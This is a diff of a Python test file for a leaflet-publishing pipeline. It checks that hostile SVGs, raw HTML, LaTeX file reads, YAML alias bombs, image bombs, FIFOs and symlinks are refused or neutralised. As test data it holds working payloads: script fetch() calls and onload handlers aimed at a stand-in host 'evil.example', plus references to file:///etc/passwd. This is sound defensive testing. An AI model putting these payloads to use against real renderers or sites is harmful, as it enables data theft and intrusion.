@@ -15,6 +15,7 @@ import json
 import re
 import shutil
 import zipfile
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -23,11 +24,17 @@ import pytest
 from lxml import etree
 from lxml import html as lxml_html
 from PIL import Image
+from playwright.sync_api import Browser
 
+from pipeline import limits
 from pipeline.brand import load_brand
 from pipeline.builder import Options, Project, build
 from pipeline.formats import FORMATS
+from pipeline.svgclean import clean_svg
 from pipeline.templates import environment
+from tests import oversized
+from tests.bounded import run_bounded
+from tests.browser import chromium
 from tests.conftest import ROOT
 from tests.test_build import make_project, snapshot, without_manifest
 from tests.test_source import GOOD
@@ -41,6 +48,9 @@ LINKS = (
 )
 ATTRIBUTES = "is not allowed; attributes may be width, height, lang, dir"
 HANDLER = "is an event handler, which would run script; delete it"
+DELETE_IT = (
+    "delete it: a leaflet holds only Markdown (docs/authoring.md), and nothing that runs or embeds"
+)
 PARA = "Pain can vary widely."
 FIGURE = "![A drawing of the spine](images/spine.svg)"
 
@@ -70,20 +80,6 @@ def in_para(markdown: str) -> tuple[str, str]:
 SECTION = 'section "symptoms"'
 REFUSED = {
     # -- figures: SVG ---------------------------------------------------------------------
-    "svg with <script>": Refused(
-        *in_para(FIGURE),
-        "images/spine.svg",
-        f'image "images/spine.svg" in {SECTION} holds a <script> element (line 1 of the SVG); '
-        + FIX,
-        svg("<script>alert(1)</script>"),
-    ),
-    "svg with an onload handler": Refused(
-        *in_para(FIGURE),
-        "images/spine.svg",
-        f'image "images/spine.svg" in {SECTION} holds an event handler attribute "onload" '
-        f"(line 1 of the SVG); {FIX}",
-        svg("", open_tag=SVG_OPEN.replace(">", ' onload="alert(1)">')),
-    ),
     "svg reading file:///etc/passwd": Refused(
         *in_para(FIGURE),
         "images/spine.svg",
@@ -105,6 +101,41 @@ REFUSED = {
         f"outside the drawing in a <style> element (line 1 of the SVG); {FIX}",
         svg("<style>@font-face { src: url(https://example.org/f.woff) }</style>"),
     ),
+    "svg whose <style> hides a web font behind an XML comment": Refused(
+        *in_para(FIGURE),
+        "images/spine.svg",
+        f'image "images/spine.svg" in {SECTION} holds a reference to "https://example.org/f.woff" '
+        f"outside the drawing in a <style> element (line 1 of the SVG); {FIX}",
+        svg("<style><!-- a note -->@font-face { src: url(https://example.org/f.woff) }</style>"),
+    ),
+    "svg whose <style> has a child element before its rules": Refused(
+        *in_para(FIGURE),
+        "images/spine.svg",
+        f'image "images/spine.svg" in {SECTION} holds a reference to "https://example.org/p.svg#p" '
+        f"outside the drawing in a <style> element (line 1 of the SVG); {FIX}",
+        svg("<style><g/>rect { fill: url(https://example.org/p.svg#p) }</style>"),
+    ),
+    "svg loading a picture through image-set()": Refused(
+        *in_para(FIGURE),
+        "images/spine.svg",
+        f'image "images/spine.svg" in {SECTION} holds a reference to "https://example.org/a.png" '
+        f"outside the drawing in a <style> element (line 1 of the SVG); {FIX}",
+        svg('<style>rect { background: image-set("https://example.org/a.png" 1x) }</style>'),
+    ),
+    "svg importing a style sheet": Refused(
+        *in_para(FIGURE),
+        "images/spine.svg",
+        f'image "images/spine.svg" in {SECTION} holds an @import in a <style> element (line 1 '
+        f"of the SVG); {FIX}",
+        svg('<style>@import "https://example.org/x.css";</style>'),
+    ),
+    "svg filling a shape from the web": Refused(
+        *in_para(FIGURE),
+        "images/spine.svg",
+        f'image "images/spine.svg" in {SECTION} holds a reference to "https://example.org/p.svg#p" '
+        f'outside the drawing in the "fill" attribute (line 1 of the SVG); {FIX}',
+        svg('<rect width="5" height="5" fill="url(https://example.org/p.svg#p)"/>'),
+    ),
     "svg with <foreignObject> and an HTML iframe": Refused(
         *in_para(FIGURE),
         "images/spine.svg",
@@ -121,13 +152,6 @@ REFUSED = {
         f'image "images/spine.svg" in {SECTION} holds a processing instruction '
         f"<?xml-stylesheet ...?> (line 1 of the SVG); {FIX}",
         svg("", before='<?xml-stylesheet type="text/xsl" href="evil.xsl"?>'),
-    ),
-    "svg animating a link to javascript:": Refused(
-        *in_para(FIGURE),
-        "images/spine.svg",
-        f'image "images/spine.svg" in {SECTION} holds an <set> element that changes "href" '
-        f"(line 1 of the SVG); {FIX}",
-        svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
     ),
     "svg declaring entities (XXE)": Refused(
         *in_para(FIGURE),
@@ -201,27 +225,27 @@ REFUSED = {
     "raw HTML block: iframe": Refused(
         *in_para('<iframe src="https://example.org"></iframe>'),
         "<iframe",
-        f"raw html in {SECTION}; write it in Markdown instead",
+        f'raw HTML "<iframe src="https://example.org">" in {SECTION}; {DELETE_IT}',
     ),
     "raw HTML inline: object": Refused(
         *in_para('See <object data="x.swf"></object> here.'),
         "<object",
-        f"raw html in {SECTION}; write it in Markdown instead",
+        f'raw HTML "<object data="x.swf">" in {SECTION}; {DELETE_IT}',
     ),
     "raw HTML: script": Refused(
         *in_para("<script>alert(1)</script>"),
         "<script>",
-        f"raw html in {SECTION}; write it in Markdown instead",
+        f'raw HTML "<script>alert(1)</script>" in {SECTION}; {DELETE_IT}',
     ),
     "raw HTML: link rel=attachment": Refused(
         *in_para('<link rel="attachment" href="file:///etc/passwd">'),
         "<link",
-        f"raw html in {SECTION}; write it in Markdown instead",
+        f'raw HTML "<link rel="attachment" href="file:///et…" in {SECTION}; {DELETE_IT}',
     ),
     "raw LaTeX reading a file": Refused(
         *in_para("\\input{/etc/passwd}"),
         "\\input",
-        f"raw tex in {SECTION}; write it in Markdown instead",
+        f'raw LaTeX "\\input{{/etc/passwd}}" in {SECTION}; write it in Markdown instead',
     ),
     "javascript: link": Refused(
         *in_para("[Click me](javascript:alert(1))"),
@@ -285,7 +309,8 @@ REFUSED = {
     "quotes nested 300 deep": Refused(
         *in_para("> " * 300 + "Deep down."),
         "Deep down.",
-        "more than 50 levels of lists, quotes or divs inside one another; flatten them",
+        "more than 50 levels of lists, quotes or divs inside one another (the limit "
+        '"nesting"); flatten them',
     ),
     # -- metadata and encoding --------------------------------------------------------------
     "broken YAML": Refused(
@@ -376,6 +401,150 @@ def test_hostile_input_is_refused_and_nothing_else_changes(
     failed = json.loads((root / "output" / "sample" / "manifest.json").read_text())["rejected"]
     assert failed["problems"] == refusals, "its manifest says the current source failed, why"
     assert snapshot(root / "output" / "other") == before["other"], "other documents unchanged"
+
+
+# -- oversized input: refused within bounds ---------------------------------------------------
+# Each case is built (every format) in a child process capped at MEMORY_MB of address space a
+# process and stopped after SECONDS: a regression fails here instead of taking the machine.
+# Before the limits, these took up to 3 GB and minutes, or hung (tests/bounded.py measures).
+MEMORY_MB = 1500
+SECONDS = 60.0
+OVER = 'over the limit "{}" of {}'
+
+
+@dataclass(frozen=True)
+class Oversized:
+    make: Callable[[Path], str]
+    """Writes the case into the project; returns the source text it wrote."""
+    line: Callable[[str], int]
+    """The line the message names, in that text."""
+    message: str
+    doc: str = "sample"
+
+
+def holding(needle: str) -> Callable[[str], int]:
+    return lambda text: next(i for i, row in enumerate(text.splitlines(), 1) if needle in row)
+
+
+def passing_limit(text: str) -> int:
+    """The line on which the source passes its size limit."""
+    return text.encode()[: limits.SOURCE.most].count(b"\n") + 1
+
+
+def first(_text: str) -> int:
+    return 1
+
+
+SOURCE_OVER = "the file is {:,} bytes, " + OVER.format("source size", "200,000 bytes")
+PIXELS = 'image "images/big-0.png" in section "symptoms" is {:,} pixels, ' + OVER.format(
+    "figure size", "25,000,000 pixels"
+)
+BOUNDED = {
+    "YAML alias bomb in lang": Oversized(
+        oversized.alias_bomb_in("lang"),
+        holding("*a"),
+        "the YAML metadata uses an alias (*a), which is not allowed; write the value out",
+    ),
+    "YAML alias bomb in id": Oversized(
+        oversized.alias_bomb_in("id"),
+        holding("*a"),
+        "the YAML metadata uses an alias (*a), which is not allowed; write the value out",
+    ),
+    "a 10 MB title": Oversized(oversized.huge_title, passing_limit, SOURCE_OVER.format(10_000_378)),
+    "a 201-character title": Oversized(
+        lambda root: oversized.write_source(
+            root, GOOD.replace("title: A sample leaflet", "title: " + "Care " * 40 + "x")
+        ),
+        holding("title:"),
+        "the title is 201 characters, " + OVER.format("title length", "200 characters"),
+    ),
+    "a 50,000-row table": Oversized(
+        oversized.huge_table, passing_limit, SOURCE_OVER.format(650_426)
+    ),
+    "a 2,001-row table": Oversized(
+        oversized.rows(2_001),
+        holding("| Row | Dose |"),
+        "the table has 2,001 rows, " + OVER.format("table rows", "2,000 rows"),
+    ),
+    "a 20 MB paragraph": Oversized(
+        oversized.huge_paragraph, passing_limit, SOURCE_OVER.format(20_000_373)
+    ),
+    "a 5,040-character paragraph": Oversized(
+        oversized.long_paragraph,
+        holding("Pain comes and goes."),
+        "the paragraph is 5,039 characters, " + OVER.format("paragraph length", "5,000 characters"),
+    ),
+    "101 sections": Oversized(
+        oversized.many_sections,
+        holding("## Part 99 "),
+        "the document has 101 sections, " + OVER.format("sections", "100 sections"),
+    ),
+    "a 13,000 x 13,000 PNG of 0.5 MB": Oversized(
+        oversized.png_bomb(13_000), holding("big-0.png"), PIXELS.format(169_000_000)
+    ),
+    "a 30,000 x 30,000 PNG": Oversized(
+        oversized.png_bomb(30_000), holding("big-0.png"), PIXELS.format(900_000_000)
+    ),
+    "three PNGs of 22.5 million pixels": Oversized(
+        oversized.png_bomb(5_000, 4_500, count=3),
+        holding("big-2.png"),
+        'image "images/big-2.png" in section "symptoms" brings its figures to 67,500,000 pixels, '
+        + OVER.format("figure size in a document", "60,000,000 pixels"),
+    ),
+    "an SVG of 2.2 MB": Oversized(
+        oversized.huge_svg,
+        holding("spine.svg"),
+        'image "images/spine.svg" in section "symptoms" is 2,240,070 bytes, '
+        + OVER.format("SVG size", "2,000,000 bytes"),
+    ),
+    "an SVG of 10^9 <use>s": Oversized(
+        oversized.svg_use_bomb,
+        holding("spine.svg"),
+        'image "images/spine.svg" in section "symptoms" cannot be made safe to publish: '
+        "librsvg cannot draw it",
+    ),
+    "a source that is a FIFO": Oversized(
+        oversized.fifo_source,
+        first,
+        "this file is not a regular file but a named pipe (FIFO); save it as a file",
+        doc="evil",
+    ),
+    "a figure that is a FIFO": Oversized(
+        oversized.fifo_figure,
+        holding("spine.png"),
+        'image "images/spine.png" in section "symptoms" is not a regular file but a named pipe '
+        "(FIFO); save it as a file",
+    ),
+    "a source linked to a file outside the project": Oversized(
+        oversized.symlink_out,
+        first,
+        "this file is a symbolic link to {outside}, outside source/; copy the file into "
+        "source/ instead",
+        doc="evil",
+    ),
+}
+
+
+def _build_lines(root: Path) -> list[str]:
+    return build(Project.at(root)).lines
+
+
+@pytest.mark.parametrize("case", BOUNDED)
+def test_oversized_input_is_refused_within_bounds(tmp_path: Path, case: str) -> None:
+    spec = BOUNDED[case]
+    root = tmp_path / "project"
+    make_project(root, {})
+    text = spec.make(root)
+
+    ran = run_bounded(_build_lines, root, memory_mb=MEMORY_MB, seconds=SECONDS)
+
+    assert not ran.timed_out and not ran.error, ran
+    lines: list[str] = ran.result
+    message = spec.message.format(outside=tmp_path / "outside.md")
+    expected = f"source/{spec.doc}.md:{spec.line(text)}: {message}"
+    assert any(line.startswith(expected) for line in lines), (expected, lines)
+    assert not any("could not be rendered" in line or "verified" in line for line in lines)
+    assert not (root / "output" / spec.doc).exists(), "nothing published"
 
 
 # -- the safe case: hostile-looking text is text, in every format ---------------------------
@@ -521,7 +690,7 @@ def test_hostile_text_is_only_text_in_every_output(tmp_path: Path) -> None:
     assert {".html", ".pdf", ".docx", ".svg", ".png"} <= kinds_seen, kinds_seen
     assert {p.name: active_content(p) for p in outputs if active_content(p)} == {}
     published_svgs = [p for p in outputs if p.suffix == ".svg" and "clean" in p.name]
-    assert published_svgs and all(p.read_text() == CLEAN_SVG for p in published_svgs)
+    assert published_svgs and all("<path" in p.read_text() for p in published_svgs), "redrawn"
     page = (project.output_dir / "sample" / "index.html").read_text()
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown as text, in the title too
     assert snapshot(project.output_dir / "other") == other_before, "other documents unchanged"
@@ -556,3 +725,93 @@ def test_weasyprint_reads_nothing_outside_the_project(tmp_path: Path, url: str) 
     page = f'<p>x</p><img src="{url}" alt="x">'
     with pytest.raises(FatalURLFetchingError, match="refused to"):
         weasy.fenced(page, tmp_path, load_brand(ROOT / "styles")).render()
+
+
+# -- SVG figures: what a published one fetches when opened in a browser ----------------------
+
+EVIL = "http://evil.example"
+HOSTILE_SVGS = {
+    "<style> with an XML comment": f"<style><!-- x -->@font-face {{ font-family: f; src: "
+    f"url({EVIL}/font.woff) }} text {{ font-family: f }}</style><text y='9'>Hi</text>",
+    "<style> with a child element first": f"<style><g/>rect {{ fill: url({EVIL}/p.svg#p) }}"
+    "</style><rect width='9' height='9'/>",
+    "image-set()": f"<style>rect {{ fill: red; mask-image: image-set('{EVIL}/m.png' 1x) }}</style>"
+    "<rect width='9' height='9'/>",
+    "@import": f"<style>@import url({EVIL}/x.css);</style><rect width='9' height='9'/>",
+    "url(http://...) in an attribute": f"<rect width='9' height='9' fill='url({EVIL}/p.svg#p)'/>",
+    "xlink:href outside": f"<image xlink:href='{EVIL}/i.png' width='9' height='9'/>",
+    "<script>": f"<script>fetch('{EVIL}/script')</script><circle r='4'/>",
+    "onload": f"<circle r='4'/><set attributeName='fill' to='red' onbegin=\"fetch('{EVIL}/on')\"/>",
+    "<foreignObject>": f"<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/"
+    f"xhtml' src='{EVIL}/fo.png'/></foreignObject><circle r='4'/>",
+    "file: reference": "<image href='file:///etc/hostname' width='9' height='9'/><circle r='4'/>",
+}
+SVG_HOSTILE_OPEN = SVG_OPEN.replace(
+    ">", f" width='20' height='20' onload=\"fetch('{EVIL}/load')\">"
+)
+
+
+def requests_made(browser: Browser, path: Path) -> list[str]:
+    """Every URL the browser asks for while it opens `path` at its own address and lets it
+    run for a moment (each fetch aborted, so nothing leaves the machine)."""
+    seen: list[str] = []
+    context = browser.new_context()
+    try:
+        page = context.new_page()
+        page.on("request", lambda request: seen.append(request.url))
+        page.route(
+            "**/*",
+            lambda route: route.abort() if "evil" in route.request.url else route.continue_(),
+        )
+        page.goto(path.as_uri(), wait_until="load")
+        page.wait_for_timeout(300)
+    finally:
+        context.close()
+    return [url for url in seen if url != path.as_uri()]
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with chromium() as browser:
+        yield browser
+
+
+@pytest.mark.parametrize("case", HOSTILE_SVGS)
+def test_an_svg_drawn_again_fetches_nothing_in_a_browser(
+    browser: Browser, tmp_path: Path, case: str
+) -> None:
+    """Whatever the author's SVG holds, what svgclean makes of it fetches nothing when opened
+    at its own address; the author's file itself (the control) does reach out, or the case
+    would prove nothing."""
+    original = tmp_path / "original.svg"
+    original.write_text(f"{SVG_HOSTILE_OPEN}{HOSTILE_SVGS[case]}</svg>")
+    assert requests_made(browser, original), "the control: the original fetches something"
+    cleaned = tmp_path / "cleaned.svg"
+    cleaned.write_bytes(clean_svg(original.read_bytes()))
+    assert requests_made(browser, cleaned) == []
+    assert _active_svg(cleaned) == []
+
+
+def test_a_published_svg_with_script_and_handlers_fetches_nothing(
+    browser: Browser, tmp_path: Path
+) -> None:
+    """Scripts, handlers and animations draw nothing: the loader lets such an SVG through and
+    the build publishes it drawn again, as shapes alone, in the page's and the one-pager's
+    images/ and inside the DOCX."""
+    project = make_project(tmp_path, {"sample": GOOD})
+    images = project.source_dir / "images"
+    images.mkdir()
+    body = HOSTILE_SVGS["<script>"] + HOSTILE_SVGS["onload"] + "<rect width='5' height='5'/>"
+    (images / "spine.svg").write_text(f"{SVG_HOSTILE_OPEN}{body}</svg>")
+    assert requests_made(browser, images / "spine.svg"), "the control"
+    (project.source_dir / "sample.md").write_text(GOOD.replace(PARA, f"{PARA}\n\n{FIGURE}"))
+
+    report = build(project, Options(formats=("html", "docx")))
+
+    assert not report.failed, report.lines
+    [published] = (project.output_dir / "sample" / "images").glob("*spine.svg")
+    assert requests_made(browser, published) == []
+    assert _active_svg(published) == []
+    with zipfile.ZipFile(project.output_dir / "sample" / "sample.docx") as package:
+        [inside] = [name for name in package.namelist() if name.endswith(".svg")]
+        assert package.read(inside) == published.read_bytes(), "the same drawing in the DOCX"
